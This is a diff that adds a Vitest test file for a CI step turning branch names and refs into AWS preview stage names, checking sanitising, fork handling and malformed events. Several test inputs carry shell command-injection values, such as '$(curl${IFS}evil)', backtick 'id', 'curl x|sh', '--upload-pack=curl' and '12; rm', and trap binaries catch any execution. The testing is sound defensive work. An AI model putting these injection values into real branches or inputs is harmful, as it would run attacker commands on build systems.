@@ -1,0 +1,149 @@
+import { chmodSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { delimiter, join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { configurationWith } from './repository.ts';
+import { configurationOf, expectDecision, expectSkip, filled, openPull, resolveStage } from './resolve-stage-run.ts';
+import { expectFailure, expectSuccess } from './verdict.ts';
+import { startWorld, type World } from './world.ts';
+
+const PATTERN: [string, string] = ['stages:\n', "stages:\n  'refs/**': { profile: dev }\n"];
+
+let world: World;
+let traps: string;
+beforeAll(async () => {
+  world = await startWorld({ files: { 'serverless-stages.yml': configurationWith(PATTERN) } });
+  traps = mkdtempSync(join(tmpdir(), 'traps-'));
+  for (const name of ['curl', 'sh', 'bash', 'id', 'git', 'echo']) {
+    const file = join(traps, name);
+    writeFileSync(file, `#!/bin/sh\n: > '${join(traps, 'sprung')}'\n`);
+    chmodSync(file, 0o755);
+  }
+});
+afterAll(async () => {
+  rmSync(traps, { recursive: true, force: true });
+  await world.close();
+});
+
+async function resolvePull(branch: string) {
+  const number = await openPull(world, branch);
+  const context = await world.pullRequestRun(number, 'opened');
+  const env = { PATH: [traps, process.env['PATH']].join(delimiter) };
+  return resolveStage(world, { ...context, env });
+}
+
+describe('a stage name', () => {
+  it.each([
+    ['A1', 'feature/ÄÖ', /^feature-ao-[a-z0-9]{6}$/],
+    ['A2', '--stage=prod', /^stage-prod-[a-z0-9]{6}$/],
+    ['A3', '$(curl${IFS}evil)', /^[a-z][a-z0-9]*(-[a-z0-9]+)*-[a-z0-9]{6}$/],
+    ['A3', '`id`', /^id-[a-z0-9]{6}$/],
+    ['A3', 'a";curl${IFS}x|sh;"', /^a-[a-z0-9-]+-[a-z0-9]{6}$/],
+    ['A4', `long/${'x'.repeat(200)}`, /^long-x{8}-[a-z0-9]{6}$/],
+    ['A5', '-----', /^b-[a-z0-9]{6}$/],
+    ['A5', '___', /^b-[a-z0-9]{6}$/],
+    ['A5', '🚀🚀', /^b-[a-z0-9]{6}$/],
+    ['A6', 'PROD', /^prod-[a-z0-9]{6}$/],
+    ['A6', 'Prod', /^prod-[a-z0-9]{6}$/],
+    ['A6', 'staging', /^staging-[a-z0-9]{6}$/],
+    ['A6', 'default', /^default-[a-z0-9]{6}$/],
+    ['A13', '123-fix', /^b-123-fix-[a-z0-9]{6}$/],
+    ['A2', '::set-output name=x'.replace(' ', '_').replaceAll(':', ';'), /^set-output/],
+  ])('%s of the branch %s fits AWS, and starts no program', async (_id, branch, name) => {
+    const step = await resolvePull(branch);
+    expectDecision(step, {
+      decision: 'deploy',
+      kind: 'preview',
+      stage: expect.stringMatching(name),
+      ref: `refs/heads/${branch}`,
+      profile: 'dev',
+      environment: 'preview',
+    });
+    expect(step.outputs['stage']).not.toContain('--');
+    expect(step.outputs['stage']?.length).toBeLessThanOrEqual(20);
+    expect(configurationOf(step).profile.role).toMatch(/:role\/serverless-stages-preview$/);
+    expect(existsSync(join(traps, 'sprung'))).toBe(false);
+    expect(step.orphans).toEqual([]);
+  });
+
+  it('A8 differs for branches that differ in letters only', async () => {
+    const names = [];
+    for (const branch of ['mix/a', 'mix-a', 'Mix/A']) names.push((await resolvePull(branch)).outputs['stage']);
+    expect(new Set(names).size).toBe(3);
+  });
+
+  it('A3 of a ref that a person typed is never run', async () => {
+    const run = world.dispatchRun('refs/heads/master');
+    for (const ref of ['$(curl evil)', '$(curl${IFS}evil)', '--upload-pack=curl', 'a\nstage=prod', '../../x']) {
+      const env = { PATH: [traps, process.env['PATH']].join(delimiter) };
+      const step = await resolveStage(world, { ...run, env }, { ref });
+      expect(Object.keys(step.outputs)).not.toContain('a');
+      expect(step.outputs['stage'] ?? '').not.toBe('prod');
+      expect(existsSync(join(traps, 'sprung'))).toBe(false);
+      if (step.exitCode === 0) expectSuccess(step);
+      else expectFailure(step, step.annotations[0]?.message.startsWith('E_INPUT') ? 'E_INPUT' : 'E_REF_REQUIRED');
+    }
+  });
+});
+
+describe('a branch that is no preview', () => {
+  it("A6 is a configured stage's", async () => {
+    const { number } = await world.github.pulls.open({ head: 'prod', base: 'master' });
+    expectSkip(await resolveStage(world, await world.pullRequestRun(number, 'opened')), /prod/);
+  });
+});
+
+describe('a pull request of a fork', () => {
+  it.each(['master', 'feature/good'])('A7 is not deployed: branch %s; no token is asked for', async (branch) => {
+    if (branch !== 'master') world.repository.commit(branch, { 'a.txt': 'a' });
+    const { number } = await world.github.pulls.open({ head: branch, base: 'master', headRepositoryId: 77 });
+    for (const action of ['opened', 'synchronize', 'closed'] as const) {
+      if (action === 'closed') await world.github.pulls.close(number);
+      const run = world.withIdToken(await world.pullRequestRun(number, action), 'preview');
+      expectSkip(await resolveStage(world, run), /fork/);
+    }
+    expect(world.oidc.journal).toEqual([]);
+    expect(world.aws.journal.entries).toEqual([]);
+  });
+
+  it('A16 may be gone: head.repo is null', async () => {
+    world.repository.commit('topic/orphan', { 'a.txt': 'a' });
+    const { number } = await world.github.pulls.open({ head: 'topic/orphan', base: 'master', headRepositoryId: null });
+    expectSkip(await resolveStage(world, await world.pullRequestRun(number, 'opened')), /fork/);
+  });
+
+  it('A7 is told from a pull request by the id of its repository, not by what the payload claims', async () => {
+    world.repository.commit('topic/forged', { 'a.txt': 'a' });
+    const { number } = await world.github.pulls.open({ head: 'topic/forged', base: 'master', headRepositoryId: 78 });
+    const run = await world.pullRequestRun(number, 'opened');
+    const payload = structuredClone(run.event?.payload) as { pull_request: { head: { repo: unknown } } };
+    payload.pull_request.head.repo = { id: 1001, full_name: 'acme/workshop', fork: false };
+    const step = await resolveStage(world, { ...run, event: { name: 'pull_request', payload } });
+    expectSkip(step, /fork/);
+  });
+});
+
+describe('a branch with a misleading name', () => {
+  it.each(['refs/heads/x', 'refs/pull/5/merge', 'refs/tags/v1'])('A10 %s is a branch', async (branch) => {
+    const sha = world.repository.commit(branch, { 'a.txt': branch });
+    const pushed = await resolveStage(world, await world.pushRun(branch));
+    expectDecision(pushed, { decision: 'deploy', kind: 'preview', ref: `refs/heads/${branch}`, commit: sha });
+    const asked = await resolveStage(world, world.dispatchRun('refs/heads/master'), { ref: `refs/heads/${branch}` });
+    expectDecision(asked, { stage: pushed.outputs['stage'], commit: sha });
+  });
+});
+
+describe('an event that cannot be read', () => {
+  it.each([
+    ['no text', ''],
+    ['no JSON', '{"action": '],
+    ['a list', '[]'],
+    ['nothing of a pull request', '{"action": "opened"}'],
+    ['a number that is none', '{"action": "opened", "number": "12; rm", "pull_request": {"number": "x"}}'],
+  ])('A16 holds %s', async (_what, text) => {
+    const event = { name: 'pull_request', payload: undefined, text };
+    const step = await resolveStage(world, { event, ref: 'refs/pull/1/merge' });
+    expectFailure(step, 'E_EVENT');
+    expect(filled(step)).toEqual({ decision: 'error' });
+  });
+});
